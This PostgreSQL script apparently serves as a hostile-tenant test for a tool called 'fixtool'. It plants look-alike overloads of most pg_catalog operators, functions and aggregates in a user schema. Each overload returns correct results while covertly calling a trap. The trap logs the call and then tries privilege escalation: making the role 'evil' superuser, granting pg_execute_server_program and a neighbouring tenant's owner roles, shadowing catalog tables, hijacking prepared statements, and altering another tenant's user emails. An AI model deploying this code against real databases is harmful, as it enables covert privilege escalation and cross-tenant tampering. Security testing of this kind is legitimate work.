-- For every operator and every function of pg_catalog: overloads in SCHEMA whose argument types fit better than those of
-- pg_catalog, with the right answers, so that nobody notices. Run as the hostile login; SCHEMA and NAMES are put in.

SET search_path = pg_catalog;
SET check_function_bodies = off;

-- What a trap does when it is called: it says so in the server's log, which no rollback and no read-only transaction
-- takes back, and then tries every way to more rights, swallowing what goes wrong.
CREATE FUNCTION SCHEMA.hit(what text) RETURNS void LANGUAGE plpgsql AS $hit$
DECLARE attempt text;
BEGIN
    RAISE LOG 'TRAP|%|%|%|', current_user, session_user, what;
    IF session_user OPERATOR(pg_catalog.=) 'evil'::pg_catalog.name
        OR pg_catalog.current_setting('trap.sprung', true) OPERATOR(pg_catalog.=) 'yes'::pg_catalog.text THEN
        RETURN;
    END IF;
    PERFORM pg_catalog.set_config('trap.sprung', 'yes', true);
    FOREACH attempt IN ARRAY ARRAY[
        'RESET ROLE',
        'SET SESSION AUTHORIZATION DEFAULT',
        $$SELECT pg_catalog.set_config('role', 'none', false)$$,
        $$SELECT pg_catalog.set_config('session_authorization', 'default', false)$$,
        $$SELECT pg_catalog.set_config('search_path', 'SCHEMA, pg_catalog', false)$$,
        'SET CONSTRAINTS ALL DEFERRED',
        'CREATE TEMPORARY TABLE pg_class (oid oid, relname name, relnamespace oid, relkind "char", relacl aclitem[])',
        'CREATE TEMPORARY VIEW pg_constraint AS SELECT SCHEMA.springs() AS oid',
        'CREATE TEMPORARY VIEW _fixtool_stage AS SELECT SCHEMA.springs() AS id',
        'CREATE TEMPORARY VIEW _fixtool_held AS SELECT SCHEMA.springs() AS id',
        -- What the driver prepared under a name is run again under that name.
        $prepared$DO $do$ DECLARE one record; BEGIN FOR one IN SELECT name, parameter_types::pg_catalog.text[] AS kinds
            FROM pg_catalog.pg_prepared_statements WHERE NOT from_sql LOOP
            EXECUTE pg_catalog.format('DEALLOCATE %I', one.name);
            EXECUTE pg_catalog.format('PREPARE %I %s AS SELECT SCHEMA.springs()', one.name,
                '(' OPERATOR(pg_catalog.||) NULLIF(pg_catalog.array_to_string(one.kinds, ', '), '')
                    OPERATOR(pg_catalog.||) ')'); END LOOP; END $do$ $prepared$,
        $$SELECT pg_catalog.query_to_xml('ALTER ROLE evil SUPERUSER', true, true, '')$$,
        'ALTER ROLE evil SUPERUSER',
        'ALTER ROLE evil CREATEROLE',
        'GRANT pg_execute_server_program TO evil',
        $grant$DO $do$ DECLARE other name; BEGIN FOR other IN SELECT rolname FROM pg_catalog.pg_roles
            WHERE rolname OPERATOR(pg_catalog.~~) 'tenant_neighbour_owner%' LOOP
            EXECUTE pg_catalog.format('GRANT %I TO evil', other); END LOOP; END $do$ $grant$,
        $$UPDATE tenant_neighbour.users SET email = pg_catalog.concat('taken-', email)$$
    ] LOOP
        BEGIN
            EXECUTE attempt;
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
    RAISE LOG 'TRAP|%|%|% (after trying to escape)|', current_user, session_user, what;
END $hit$;

CREATE FUNCTION SCHEMA.springs() RETURNS oid LANGUAGE plpgsql AS $$
BEGIN PERFORM SCHEMA.hit('springs()'); RETURN 0; END $$;

-- Types of an owner's own. Operators find those of a domain before those of its base type.
CREATE DOMAIN SCHEMA.word AS text;
CREATE TYPE SCHEMA.mood AS ENUM ('calm', 'angry');
CREATE TYPE SCHEMA.pair AS (a text, b int);

CREATE TEMPORARY TABLE kinds AS
SELECT t.oid, t.typelem AS element, format_type(t.oid, NULL) AS name
FROM pg_type t
WHERE t.oid::regtype::text = ANY (ARRAY['boolean', '"char"', 'name', 'smallint', 'integer', 'bigint', 'real',
    'double precision', 'numeric', 'oid', 'regclass', 'regproc', 'regtype', 'regnamespace', 'text', 'character varying',
    'character', 'json', 'jsonb', 'uuid', 'bytea', 'date', 'timestamp without time zone', 'timestamp with time zone',
    'interval', 'xid', 'xid8', 'tid', 'pg_node_tree', 'int2vector', 'oidvector', 'inet', 'cidr',
    'text[]', 'character varying[]', 'name[]', '"char"[]', 'smallint[]', 'integer[]', 'bigint[]', 'oid[]', 'uuid[]',
    'boolean[]', 'tid[]', 'SCHEMA.word', 'SCHEMA.mood', 'SCHEMA.word[]'])
UNION ALL
-- Rows of the owner's tables.
SELECT c.reltype, 0, format_type(c.reltype, NULL) FROM pg_class c
WHERE c.relnamespace = 'SCHEMA'::regnamespace AND c.relkind IN ('r', 'p', 'c') AND c.relname NOT LIKE '\_fixtool%';

-- Which type may stand where an operator or a function of pg_catalog wants which.
CREATE TEMPORARY TABLE fits AS
SELECT k.oid AS given, k.oid AS wanted FROM kinds k
UNION
SELECT c.castsource, c.casttarget FROM pg_cast c JOIN kinds k ON k.oid = c.castsource WHERE c.castcontext = 'i'
UNION
SELECT a.oid, w.oid FROM pg_cast c JOIN pg_type a ON a.typelem = c.castsource AND a.typcategory = 'A'
JOIN kinds k ON k.oid = a.oid JOIN pg_type w ON w.typelem = c.casttarget AND w.typcategory = 'A'
WHERE c.castcontext = 'i'
UNION
SELECT k.oid, 'text'::regtype::oid FROM kinds k WHERE k.name = 'SCHEMA.word'
UNION
SELECT k.oid, 'text[]'::regtype::oid FROM kinds k WHERE k.name = 'SCHEMA.word[]'
UNION
SELECT k.oid, p.oid::oid FROM kinds k, unnest(ARRAY['anyelement', 'anynonarray', 'anycompatible', 'anycompatiblenonarray',
    '"any"']::regtype[]) AS p(oid) WHERE k.name NOT LIKE '%[]'
UNION
SELECT k.oid, p.oid::oid FROM kinds k, unnest(ARRAY['anyarray', 'anycompatiblearray', 'anyelement',
    'anycompatible', '"any"']::regtype[]) AS p(oid) WHERE k.name LIKE '%[]'
UNION
SELECT 'SCHEMA.mood'::regtype, p.oid::oid FROM unnest(ARRAY['anyenum', 'anyelement']::regtype[]) AS p(oid)
UNION
SELECT k.oid, 'record'::regtype FROM kinds k JOIN pg_type t ON t.oid = k.oid WHERE t.typtype = 'c';
CREATE INDEX ON fits (wanted);

CREATE FUNCTION pg_temp.is_open(kind oid) RETURNS boolean LANGUAGE sql AS $$
    SELECT $1::regtype::text LIKE 'any%' OR $1::regtype::text IN ('"any"', 'record') $$;

-- What an open type of a result is, when the arguments are known.
CREATE FUNCTION pg_temp.closed(result oid, given oid[]) RETURNS text LANGUAGE sql AS $$
    SELECT CASE
        WHEN NOT pg_temp.is_open($1) OR $1 = 'record'::regtype THEN format_type($1, NULL)
        WHEN $1::regtype::text LIKE '%array' THEN COALESCE(
            (SELECT format_type(g, NULL) FROM unnest($2) g WHERE format_type(g, NULL) LIKE '%[]' LIMIT 1),
            format_type(given[1], NULL) || '[]')
        ELSE COALESCE(
            (SELECT format_type(t.typelem, NULL) FROM unnest($2) g JOIN pg_type t ON t.oid = g
             WHERE format_type(g, NULL) LIKE '%[]' LIMIT 1),
            format_type(given[1], NULL))
    END $$;

-- Operators.
DO $do$
DECLARE
    r record;
    number int := 0;
    call text;
BEGIN
    FOR r IN
        SELECT DISTINCT ON (o.oprname, a.given, b.given) o.oprname AS name,
               format_type(a.given, NULL) AS l, format_type(b.given, NULL) AS r,
               CASE WHEN pg_temp.is_open(o.oprleft) THEN '' ELSE '::' || format_type(o.oprleft, NULL) END AS lc,
               CASE WHEN pg_temp.is_open(o.oprright) THEN '' ELSE '::' || format_type(o.oprright, NULL) END AS rc,
               pg_temp.closed(o.oprresult, ARRAY[a.given, b.given]) AS result
        FROM pg_operator o
        JOIN fits a ON a.wanted = o.oprleft
        JOIN fits b ON b.wanted = o.oprright
        WHERE o.oprkind = 'b' AND o.oprnamespace = 'pg_catalog'::regnamespace AND o.oprcode <> 0
          AND (NOT pg_temp.is_open(o.oprleft) OR NOT pg_temp.is_open(o.oprright) OR a.given = b.given
               OR (SELECT typelem FROM pg_type WHERE oid = a.given) = b.given
               OR (SELECT typelem FROM pg_type WHERE oid = b.given) = a.given)
          AND NOT EXISTS (SELECT FROM pg_operator x WHERE x.oprname = o.oprname AND x.oprleft = a.given
                          AND x.oprright = b.given)
        ORDER BY o.oprname, a.given, b.given, (a.given = o.oprleft)::int + (b.given = o.oprright)::int DESC
    LOOP
        number := number + 1;
        call := format('SCHEMA.o%s', number);
        BEGIN
            EXECUTE format('CREATE FUNCTION %s(a %s, b %s) RETURNS %s LANGUAGE plpgsql AS %L', call, r.l, r.r, r.result,
                format('BEGIN PERFORM SCHEMA.hit(%L); RETURN a%s OPERATOR(pg_catalog.%s) b%s; END',
                    format('%s(%s, %s)', r.name, r.l, r.r), r.lc, r.name, r.rc));
            EXECUTE format('CREATE OPERATOR SCHEMA.%s (leftarg = %s, rightarg = %s, function = %s)',
                r.name, r.l, r.r, call);
        EXCEPTION WHEN OTHERS THEN RAISE WARNING '% (%, %): %', r.name, r.l, r.r, SQLERRM;
        END;
    END LOOP;
    RAISE NOTICE '% operators', number;
END $do$;

-- Functions that return one value. A function of NAMES, which are those that stand in fixtool's own source, is covered
-- with every way to fill its arguments; of the others those are that have one argument, or the same type everywhere.
DO $do$
DECLARE
    p record;
    o record;
    number int := 0;
    body text;
    given text;
    call text;
BEGIN
    FOR p IN
        SELECT f.oid, f.proname, f.proargtypes::oid[] AS wanted, f.prorettype, f.proretset, f.pronargs AS n,
               f.provariadic <> 0 AS variadic,
               f.proname = ANY ('{NAMES}'::name[]) AS named
        FROM pg_proc f
        WHERE f.pronamespace = 'pg_catalog'::regnamespace AND f.prokind = 'f' AND f.proargmodes IS NULL
          AND f.pronargs BETWEEN 1 AND 4
          AND f.prorettype::regtype::text NOT IN ('trigger', 'internal', 'event_trigger', 'language_handler', 'fdw_handler',
              'index_am_handler', 'table_am_handler', 'tsm_handler', 'cstring', 'void')
          AND NOT EXISTS (SELECT FROM pg_cast c WHERE c.castfunc = f.oid)
          AND 'internal'::regtype <> ALL (f.proargtypes::oid[])
          AND (ALL_FUNCTIONS OR f.proname = ANY ('{NAMES}'::name[]))
    LOOP
        FOR o IN
            SELECT g.given FROM (
                SELECT ARRAY[a.given] AS given FROM fits a WHERE p.n = 1 AND a.wanted = p.wanted[0]
                UNION
                SELECT ARRAY[a.given, b.given] FROM fits a, fits b
                WHERE p.n = 2 AND a.wanted = p.wanted[0] AND b.wanted = p.wanted[1] AND (p.named OR a.given = b.given)
                UNION
                SELECT ARRAY[a.given, b.given, c.given] || CASE WHEN p.n = 4 THEN ARRAY[p.wanted[3]] END
                FROM fits a, fits b, fits c
                WHERE p.n IN (3, 4) AND a.wanted = p.wanted[0] AND b.wanted = p.wanted[1] AND c.wanted = p.wanted[2]
                  AND (a.given = b.given AND b.given = c.given
                       OR (a.given <> a.wanted)::int + (b.given <> b.wanted)::int + (c.given <> c.wanted)::int = 1)
            ) g
            WHERE NOT EXISTS (SELECT FROM pg_proc x WHERE x.pronamespace = 'pg_catalog'::regnamespace
                              AND x.proname = p.proname AND x.proargtypes::oid[] = g.given)
              AND NOT EXISTS (SELECT FROM unnest(g.given) q WHERE pg_temp.is_open(q))
            LIMIT 400
        LOOP
            number := number + 1;
            SELECT string_agg(format_type(t, NULL), ', ' ORDER BY at),
                   string_agg('$' || at || CASE WHEN pg_temp.is_open(p.wanted[at - 1]) THEN ''
                              ELSE '::' || format_type(p.wanted[at - 1], NULL) END, ', ' ORDER BY at)
            INTO given, call FROM unnest(o.given) WITH ORDINALITY AS u(t, at);
            call := format('pg_catalog.%I(%s)', p.proname, call);
            body := format('BEGIN PERFORM SCHEMA.hit(%L); %s; END', format('%s(%s)', p.proname, given),
                CASE WHEN p.proretset THEN 'RETURN QUERY SELECT ' || call ELSE 'RETURN ' || call END);
            BEGIN
                EXECUTE format('CREATE FUNCTION SCHEMA.%I(%s) RETURNS %s %s LANGUAGE plpgsql AS %L', p.proname, given,
                    CASE WHEN p.proretset THEN 'SETOF' ELSE '' END, pg_temp.closed(p.prorettype, o.given), body);
            EXCEPTION WHEN duplicate_function THEN NULL;
            WHEN OTHERS THEN RAISE WARNING '%(%): %', p.proname, given, SQLERRM;
            END;
        END LOOP;
    END LOOP;
    RAISE NOTICE '% functions', number;
END $do$;

-- Functions with any number of arguments: one and two of them.
DO $do$
DECLARE
    p record;
    o record;
    number int := 0;
BEGIN
    FOR p IN
        SELECT DISTINCT ON (f.proname) f.proname, f.prorettype FROM pg_proc f
        WHERE f.pronamespace = 'pg_catalog'::regnamespace AND f.prokind = 'f' AND f.provariadic = '"any"'::regtype
          AND f.prorettype <> 'internal'::regtype AND 'internal'::regtype <> ALL (f.proargtypes::oid[])
          AND (ALL_FUNCTIONS OR f.proname = ANY ('{NAMES}'::name[]))
        ORDER BY f.proname, f.pronargs
    LOOP
        FOR o IN
            SELECT format_type(a.oid, NULL) AS given, '$1' AS call FROM kinds a
            WHERE NOT EXISTS (SELECT FROM pg_proc x WHERE x.pronamespace = 'pg_catalog'::regnamespace
                              AND x.proname = p.proname AND x.proargtypes::oid[] = ARRAY[a.oid])
            UNION ALL
            SELECT format_type(a.oid, NULL) || ', ' || format_type(b.oid, NULL), '$1, $2' FROM kinds a, kinds b
            WHERE (a.oid = b.oid OR a.name IN ('text', 'uuid', 'bigint', 'character varying')
                   AND b.name IN ('text', 'uuid', 'bigint', 'character varying', 'name', 'integer', 'SCHEMA.word'))
        LOOP
            number := number + 1;
            BEGIN
                EXECUTE format('CREATE FUNCTION SCHEMA.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L', p.proname, o.given,
                    format_type(p.prorettype, NULL), format('BEGIN PERFORM SCHEMA.hit(%L); RETURN pg_catalog.%I(%s); END',
                    format('%s(%s)', p.proname, o.given), p.proname, o.call));
            EXCEPTION WHEN duplicate_function THEN NULL;
            END;
        END LOOP;
    END LOOP;
    RAISE NOTICE '% functions of many arguments', number;
END $do$;

-- Aggregates of one argument.
DO $do$
DECLARE
    p record;
    number int := 0;
    given text;
    result text;
    state text;
BEGIN
    FOR p IN
        SELECT DISTINCT ON (f.proname, a.given) f.proname, f.prorettype, a.given, a.wanted,
               (SELECT typelem FROM pg_type WHERE oid = a.given) AS element
        FROM pg_proc f JOIN fits a ON a.wanted = f.proargtypes[0]
        WHERE f.pronamespace = 'pg_catalog'::regnamespace AND f.prokind = 'a' AND f.pronargs = 1
          AND (ALL_FUNCTIONS OR f.proname = ANY ('{NAMES}'::name[]))
          AND EXISTS (SELECT FROM pg_aggregate g WHERE g.aggfnoid = f.oid AND g.aggkind = 'n')
          AND NOT EXISTS (SELECT FROM pg_proc x WHERE x.pronamespace = 'pg_catalog'::regnamespace
                          AND x.proname = f.proname AND x.proargtypes::oid[] = ARRAY[a.given])
        ORDER BY f.proname, a.given
    LOOP
        -- The values are kept, and the real aggregate gets them at the end.
        CONTINUE WHEN format_type(p.given, NULL) LIKE '%[]' OR p.given = 'pg_node_tree'::regtype;
        number := number + 1;
        given := format_type(p.given, NULL);
        state := given || '[]';
        result := pg_temp.closed(p.prorettype, ARRAY[p.given]);
        BEGIN
            EXECUTE format('CREATE FUNCTION SCHEMA.a%s(s %s, x %s) RETURNS %s LANGUAGE plpgsql AS %L', number, state, given,
                state, format('BEGIN PERFORM SCHEMA.hit(%L); RETURN s OPERATOR(pg_catalog.||) ARRAY[x]; END',
                    format('%s(%s)', p.proname, given)));
            EXECUTE format('CREATE FUNCTION SCHEMA.f%s(s %s) RETURNS %s LANGUAGE plpgsql AS %L', number, state, result,
                format('BEGIN RETURN (SELECT pg_catalog.%I(x%s) FROM pg_catalog.unnest(s) x); END', p.proname,
                    CASE WHEN pg_temp.is_open(p.wanted) THEN '' ELSE '::' || format_type(p.wanted, NULL) END));
            EXECUTE format('CREATE AGGREGATE SCHEMA.%I(%s) (sfunc = SCHEMA.a%s, stype = %s, initcond = ''{}'', '
                'finalfunc = SCHEMA.f%s)', p.proname, given, number, state, number);
        EXCEPTION WHEN OTHERS THEN RAISE WARNING 'aggregate %(%): %', p.proname, given, SQLERRM;
        END;
    END LOOP;
    RAISE NOTICE '% aggregates', number;
END $do$;
DROP TABLE fits, kinds;
